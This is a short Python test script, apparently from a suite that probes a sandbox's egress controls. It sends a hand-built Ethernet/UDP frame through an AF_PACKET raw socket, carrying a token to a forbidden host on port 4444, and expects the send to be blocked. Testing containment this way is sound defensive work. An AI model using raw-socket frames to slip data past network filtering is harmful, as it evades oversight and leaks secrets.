#!/usr/bin/python3
# id: b05_packet_raw
# title: AF_PACKET SOCK_RAW: a whole Ethernet frame
# needs: root
# expect: block
# why: passes no cgroup hook: tcx, sock_create or a finding
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('v0', 0)); s.send(b'\xff' * 6 + b'\2' * 6 + b'\x08\0' + ip4(myip(), FORB, 17, udp4(myip(), FORB, 4444, P_UDP, TOK.encode())))
attempt(f, chan=('udp', 'pkt'))
